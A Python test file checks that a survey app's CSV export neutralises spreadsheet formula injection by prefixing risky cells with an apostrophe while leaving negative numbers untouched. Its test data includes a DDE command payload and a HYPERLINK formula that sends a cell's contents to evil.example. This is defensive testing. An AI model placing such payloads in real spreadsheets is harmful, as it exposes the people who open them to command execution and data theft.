"""No cell that people open computes anything, and a number stays one."""

from __future__ import annotations

import csv
import io
import unicodedata
import zipfile
from decimal import Decimal
from uuid import uuid4

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from app.services.spreadsheet_cells import inert
from tests.app.shown_forms import CASES, FOLLOW_UP, entity
from tests.support.backend import Backend, instance


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("https://evil.example?"&A1,"open")',
        "+1+1",
        "+355 69 123 4567",
        "+355691234567",
        "-1+1",
        "-2020-01-01",
        "- came alone",
        "-",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\u00a0=1+1",
        '"=1+1',
        '" ""=1+1',
        "“=1+1",
        "\ufeff=1+1",
        "\u200b\u202e=1+1",
        ";=1+1",
        ",=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "−1",
        "＠SUM(A1)",
        "﹦1",
        "-1 =1",
        "-1; 2; =cmd",
        "-１",
        "-1e",
        "--1",
        "-1\n",
    ],
)
def test_what_a_spreadsheet_may_compute_is_shown_as_text(text: str) -> None:
    assert inert(text) == f"'{text}"


@pytest.mark.parametrize(
    "text",
    [
        "",
        "Drita",
        "uuid:1",
        "2026-11-22T14:00:00.000Z",
        "a=b",
        "a, =b",
        "O'Neil",
        "'=1+1",
        "(=1)",
        "…",
        "Çelës",
        "“quoted”",
        "-1",
        "-0.5",
        "-12.50",
        "-1e-7",
        "-41.5 19.25 0 0; -41.6 19.3 0 0",
        "-41.5 -19.25",
    ],
)
def test_words_and_negative_numbers_stay_as_they_are(text: str) -> None:
    assert inert(text) == text


def begins_a_formula(text: str) -> bool:
    """Told in another way than the code: by what Unicode says of each character."""
    for each in text:
        if unicodedata.normalize("NFKC", each) in {"=", "+", "-", "−", "@"} or each in "\t\r\n":
            return True
        passed_over = unicodedata.category(each) in {"Zs", "Zl", "Zp", "Cc", "Cf", "Pi", "Pf"} or each in "\"'`;,"
        if not passed_over:
            return False
    return False


def is_number(text: str) -> bool:
    try:
        return Decimal(text).is_finite()
    except ArithmeticError:
        return False


TRICKY = st.text(st.sampled_from("=+-@\t\r\n \"'`“”\u00a0\u200b\ufeff;,＝＋－＠−﹣⁺019.eEaé") | st.characters())


@given(TRICKY)
@example("-1 2")
def test_a_cell_is_the_text_or_the_text_behind_an_apostrophe_and_begins_no_formula(text: str) -> None:
    cell = inert(text)
    assert cell in (text, f"'{text}")
    assert inert(cell) == cell
    if cell == text:
        numbers = all(map(is_number, text.replace(";", " ").split()))
        assert text.startswith("'") or numbers or not begins_a_formula(text)
    else:
        assert begins_a_formula(text) or text[0] not in "=+-@"


@given(st.decimals(allow_nan=False, allow_infinity=False, places=6) | st.integers())
def test_any_number_as_we_write_it_stays_one(number: Decimal | int) -> None:
    text = format(Decimal(number), "f")
    assert inert(text) == text


@given(st.lists(TRICKY, min_size=1, max_size=3))
def test_a_line_read_back_has_the_same_cells(texts: list[str]) -> None:
    target = io.StringIO(newline="")
    csv.writer(target).writerow(map(inert, texts))
    (line,) = csv.reader(io.StringIO(target.getvalue(), newline=""))
    assert [cell.removeprefix("'") for cell in line] == [text.removeprefix("'") for text in texts]


FORM = """
    | survey |              |       |       |
    |        | type         | name  | label |
    |        | text         | who   | Who   |
    |        | decimal      | owed  | Owed  |
    |        | geopoint     | place | Place |
    |        | begin_repeat | child | Child |
    |        | text         | name  | Name  |
    |        | end_repeat   |       |       |
    | settings |         |         |
    |          | form_id | version |
    |          | visit   | 1       |
"""


def test_an_export_has_no_formula_in_any_column_and_its_numbers_are_whole(lite: Backend) -> None:
    lite.admin.publish(FORM)
    phone = lite.phone(name="=name")
    body = "<who>=1+1</who><owed>-2.5</owed><place>-8.5 -19.25 -1 4</place><child><name>@child</name></child>"
    xml = instance("visit", body, instance_id="=1+1")
    sent = {"xml_submission_file": (io.BytesIO(xml.encode()), "submission.xml")}
    assert phone.client.post(f"{phone.at}/submission?deviceID=%2Bdevice", data=sent).status_code == 201

    (row,) = csv.DictReader(io.StringIO(lite.admin.get("/projects/1/forms/visit/submissions.csv").text))
    shown = {name: row[name] for name in ("who", "owed", "place-Latitude", "place-Longitude", "place-Altitude")}
    assert shown == {
        "who": "'=1+1",
        "owed": "-2.5",
        "place-Latitude": "-8.5",
        "place-Longitude": "-19.25",
        "place-Altitude": "-1.0",
    }
    assert (row["KEY"], row["SubmitterName"], row["DeviceID"]) == ("'=1+1", "'=name", "'+device")
    with zipfile.ZipFile(io.BytesIO(lite.admin.get("/projects/1/forms/visit/submissions.csv.zip").data)) as archive:
        assert "'@child" in archive.read("visit-child.csv").decode()
    # What programs read is what was sent.
    (record,) = lite.admin.get("/projects/1/forms/visit.svc/Submissions").json["value"]
    assert (record["who"], record["owed"]) == ("=1+1", -2.5)


def test_a_list_for_phones_has_every_cell_as_it_is(lite: Backend) -> None:
    lite.admin.publish(CASES)
    lite.admin.publish(FOLLOW_UP)
    lite.office("tr-01")
    phone = lite.phone(office="tr-01")
    body = "<code>=1+1</code><person>Ana</person><office/>"
    assert phone.send(instance("intake", body, meta=entity(f'id="{uuid4()}" create="1"', "@label"))).status_code == 201
    (case,) = csv.DictReader(io.StringIO(phone.get("/forms/follow_up/attachments/cases.csv").text))
    assert (case["label"], case["code"]) == ("@label", "=1+1")
